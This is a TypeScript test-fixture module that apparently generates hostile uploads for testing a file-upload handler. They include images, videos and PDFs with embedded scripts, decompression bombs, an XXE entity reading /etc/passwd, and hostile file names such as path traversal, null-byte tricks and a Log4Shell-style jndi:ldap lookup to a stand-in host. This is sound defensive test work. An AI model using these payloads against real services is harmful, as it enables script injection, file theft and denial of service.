// Files that are two things at once, or not what they say: pictures, films and documents of our own making that carry a script.
import { crc32, deflateSync } from 'node:zlib'

/** Whatever is kept of a picture must not hold it any more. */
export const PAYLOAD = 'kapaoPayload'
const SCRIPT = `<html><script>top.ran?.("${PAYLOAD}")</script><svg xmlns="http://www.w3.org/2000/svg" onload="${PAYLOAD}"/>`

export interface Polyglot {
  readonly what: string
  readonly bytes: Buffer
  /** What it says it is. */
  readonly name: string
  readonly type: string
}

const latin = (text: string) => Buffer.from(text, 'latin1')

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([latin(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

const PNG_HEAD = Buffer.from('89504e470d0a1a0a', 'hex')
function png(width: number, height: number, data: Buffer, more: readonly Buffer[] = []): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(8, 8)
  const pixels = chunk('IDAT', data)
  return Buffer.concat([PNG_HEAD, chunk('IHDR', header), ...more, pixels, chunk('IEND', Buffer.alloc(0))])
}
/** A grey square, large enough for a slip. */
const square = (more: readonly Buffer[] = []) => png(96, 96, deflateSync(Buffer.alloc(97 * 96, 0)), more)

const JPEG = Buffer.from(
  '/9j/2wBDAP//////////////////////////////////////////////////////////////////////////////////////2wBDAf//////////////////////////////////////////////////////////////////////////////////////wgARCABgAGADASIAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAAAP/EABQBAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhADEAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAP/EABQQAQAAAAAAAAAAAAAAAAAAAHD/2gAIAQEAAQUCEP/EABQRAQAAAAAAAAAAAAAAAAAAAFD/2gAIAQMBAT8BE//EABQRAQAAAAAAAAAAAAAAAAAAAFD/2gAIAQIBAT8BE//EABQQAQAAAAAAAAAAAAAAAAAAAHD/2gAIAQEABj8CEP/EABQQAQAAAAAAAAAAAAAAAAAAAHD/2gAIAQEAAT8hEP/aAAwDAQACAAMAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/8QAFBEBAAAAAAAAAAAAAAAAAAAAUP/aAAgBAwEBPxAT/8QAFBEBAAAAAAAAAAAAAAAAAAAAUP/aAAgBAgEBPxAT/8QAFBABAAAAAAAAAAAAAAAAAAAAcP/aAAgBAQABPxAQ/9k=',
  'base64',
)
function jpegWith(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([JPEG.subarray(0, 2), head, data, JPEG.subarray(2)])
}
const jpegOf = (width: number, height: number) => {
  const bytes = Buffer.from(JPEG)
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc2]))
  if (frame < 0) throw new Error('the picture has no frame')
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

const GIF = Buffer.from('R0lGODlhAgACAIAAAExpccyZACH5BAUAAAAALAAAAAACAAIAAAICjFMAOw==', 'base64')
const gifOf = (width: number, height: number) => {
  const bytes = Buffer.from(GIF)
  bytes.writeUInt16LE(width, 6)
  bytes.writeUInt16LE(height, 8)
  return bytes
}

function box(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, data])
}
const film = (brand: string) =>
  Buffer.concat([
    box('ftyp', latin(`${brand}\0\0\0\0${brand}`)),
    box('free', latin(SCRIPT)),
    box('moov', box('udta', latin(SCRIPT))),
    box('mdat', latin(SCRIPT)),
  ])

/** An empty archive's end, as a JAR that begins with a picture has it. */
const ZIP_END = Buffer.concat([latin(`PK\x03\x04${PAYLOAD}PK\x05\x06`), Buffer.alloc(18)])
const SVG = latin(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran?.('${PAYLOAD}')"><text>${PAYLOAD}</text></svg>`,
)
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_000_000), { level: 9 })

const as =
  (type: string, name: string) =>
  (what: string, bytes: Buffer): Polyglot => ({ what, bytes, name, type })
const asPng = as('image/png', 'slip.png')
const asJpeg = as('image/jpeg', 'slip.jpg')
const asGif = as('image/gif', 'slip.gif')
const asFilm = as('video/mp4', 'clip.mp4')
const asPdf = as('application/pdf', 'slip.pdf')

const pictures: readonly Polyglot[] = [
  asPng('PNG with a page in its text', square([chunk('tEXt', latin(`Comment\0${SCRIPT}`))])),
  asPng(
    'PNG with a packed page',
    square([chunk('zTXt', Buffer.concat([latin('Comment\0\0'), deflateSync(latin(SCRIPT))]))]),
  ),
  asPng('PNG with XMP', square([chunk('iTXt', latin(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`))])),
  asPng('PNG with EXIF', square([chunk('eXIf', latin(`MM\0*\0\0\0\x08\0\0${SCRIPT}`))])),
  asPng(
    'PNG with a colour profile',
    square([chunk('iCCP', Buffer.concat([latin('x\0\0'), deflateSync(latin(SCRIPT))]))]),
  ),
  asPng('PNG with chunks nobody knows', square([chunk('kaPo', latin(SCRIPT))])),
  asPng('PNG with a page behind it', Buffer.concat([square(), latin(SCRIPT)])),
  asPng('PNG with an archive behind it', Buffer.concat([square(), ZIP_END])),
  asPng('page with a PNG behind it', Buffer.concat([latin(SCRIPT), square()])),
  asPng('PNG without an end', square().subarray(0, 80)),
  asPng('PNG whose pixels are a page', png(96, 96, latin(SCRIPT))),
  asJpeg('JPEG with a comment', jpegWith(0xfe, latin(SCRIPT))),
  asJpeg('JPEG with EXIF', jpegWith(0xe1, latin(`Exif\0\0MM\0*\0\0\0\x08\0\0${SCRIPT}`))),
  asJpeg('JPEG with XMP', jpegWith(0xe1, latin(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`))),
  asJpeg('JPEG with a colour profile', jpegWith(0xe2, latin(`ICC_PROFILE\0\x01\x01${SCRIPT}`))),
  asJpeg('JPEG that is JavaScript', jpegWith(0xe0, latin(`*/=top.ran("${PAYLOAD}")/*`))),
  asJpeg('JPEG with a page behind it', Buffer.concat([JPEG, latin(SCRIPT)])),
  asJpeg('JPEG that is a JAR', Buffer.concat([JPEG, ZIP_END])),
  asJpeg('page that says JPEG', latin(SCRIPT)),
  asJpeg('page behind the first bytes of a JPEG', Buffer.concat([JPEG.subarray(0, 20), latin(SCRIPT)])),
  asGif('GIF that is JavaScript', latin(`GIF89a=1;top.ran("${PAYLOAD}")//`)),
  asGif(
    'GIF with a comment',
    Buffer.concat([
      GIF.subarray(0, 19),
      Buffer.from([0x21, 0xfe, PAYLOAD.length]),
      latin(`${PAYLOAD}\0`),
      GIF.subarray(19),
    ]),
  ),
  asGif('GIF with a page behind it', Buffer.concat([GIF, latin(SCRIPT)])),
  asGif('GIF that is a JAR', Buffer.concat([GIF, ZIP_END])),
  asPng('SVG that says PNG', SVG),
  { what: 'SVG that says so', bytes: SVG, name: 'slip.svg', type: 'image/svg+xml' },
  asPng('SVG behind the first bytes of a PNG', Buffer.concat([PNG_HEAD, SVG])),
  asPng('SVG of XML', Buffer.concat([latin('<?xml version="1.0"?>'), SVG])),
]

const bombs: readonly Polyglot[] = [
  asPng('PNG of 30,000 by 30,000', png(30_000, 30_000, zeros(20))),
  asPng('PNG of two thousand million a side', png(0x7fffffff, 0x7fffffff, zeros(1))),
  asPng('PNG with more pixels than it says', png(96, 96, zeros(200))),
  asPng(
    'PNG with 200 MB of packed text',
    square([chunk('zTXt', Buffer.concat([latin('Comment\0\0'), zeros(200)]))]),
  ),
  asPng(
    'PNG with 200 MB of colour profile',
    square([chunk('iCCP', Buffer.concat([latin('x\0\0'), zeros(200)]))]),
  ),
  asJpeg('JPEG of 65,000 by 65,000', jpegOf(65_000, 65_000)),
  asGif('GIF of 65,535 by 65,535', gifOf(65_535, 65_535)),
]

const others: readonly Polyglot[] = [
  asFilm('MP4 with a page in it', film('isom')),
  asFilm('QuickTime with a page in it', film('qt  ')),
  asFilm('page that says MP4', latin(SCRIPT)),
  asFilm('HEIC that says MP4', film('heic')),
  asFilm('MP4 with a page behind it', Buffer.concat([film('mp42'), latin(SCRIPT)])),
  asPdf('PDF with a page in it', latin(`%PDF-1.4\n${SCRIPT}\n%%EOF`)),
  asPdf(
    'PDF with JavaScript',
    latin(`%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${PAYLOAD})>>>>endobj\n%%EOF`),
  ),
  asPdf('page with a PDF behind it', latin(`${SCRIPT}%PDF-1.4\n%%EOF`)),
  asPdf('PDF that says JPEG', latin(`%PDF-1.4\n${SCRIPT}\n%%EOF`)),
  as('image/webp', 'slip.webp')('WebP of nothing', latin(`RIFF\x20\0\0\0WEBPVP8 ${SCRIPT}`)),
  as('image/bmp', 'slip.bmp')('BMP that is JavaScript', latin(`BM=1;top.ran("${PAYLOAD}")//`)),
  as('image/tiff', 'slip.tif')('TIFF', latin(`II*\0\x08\0\0\0${SCRIPT}`)),
  as('image/x-icon', 'slip.ico')('ICO', latin(`\0\0\x01\0\x01\0${SCRIPT}`)),
  as('text/html', 'slip.html')('page that says so', latin(SCRIPT)),
  as('application/xhtml+xml', 'slip.xhtml')('XHTML', latin(`<?xml version="1.0"?>${SCRIPT}`)),
  as('application/xml', 'slip.xml')(
    'XML with entities',
    latin(`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;${PAYLOAD}</x>`),
  ),
  as('text/javascript', 'slip.js')('JavaScript', latin(`top.ran("${PAYLOAD}")`)),
  as('application/zip', 'slip.zip')('archive', ZIP_END),
  as('application/wasm', 'slip.wasm')('WebAssembly', latin(`\0asm\x01\0\0\0${PAYLOAD}`)),
  as('application/x-msdownload', 'slip.exe')('program', latin(`MZ${PAYLOAD}`)),
  as('text/plain', 'slip.txt')('script of a shell', latin(`#!/bin/sh\n${PAYLOAD}`)),
  as('application/octet-stream', 'nothing')('nothing at all', Buffer.alloc(0)),
]

const names = [
  ...[
    'slip.png.html',
    'slip.html.png',
    'slip.php\0.png',
    'slip.png\0.html',
    '../../../../etc/passwd',
    '..\\..\\x.png',
  ],
  ...[
    '/etc/cron.d/x',
    'slip\u202egnp.exe',
    'a"; filename="b.html',
    'a\r\nx-evil: 1',
    'con.png',
    '.htaccess',
    '%2e%2e%2fx.png',
  ],
  ...[
    '<img src=x onerror=top.ran(1)>.png',
    'x'.repeat(5_000),
    '',
    ' ',
    'file://etc/passwd',
    '$\u007bjndi:ldap://evil.example/a}.png',
  ],
]
const types = [
  'text/html',
  'image/svg+xml',
  'application/x-httpd-php',
  'multipart/mixed',
  'x',
  '',
  'image/png; charset=utf-7',
]

export const polyglots: readonly Polyglot[] = [
  ...pictures,
  ...bombs,
  ...others,
  ...names.map((name) => ({
    ...asPng(`a picture called ${JSON.stringify(name).slice(0, 40)}`, square()),
    name,
  })),
  ...types.map((type) => ({ ...asPng(`a picture that says ${type}`, square()), type })),
]
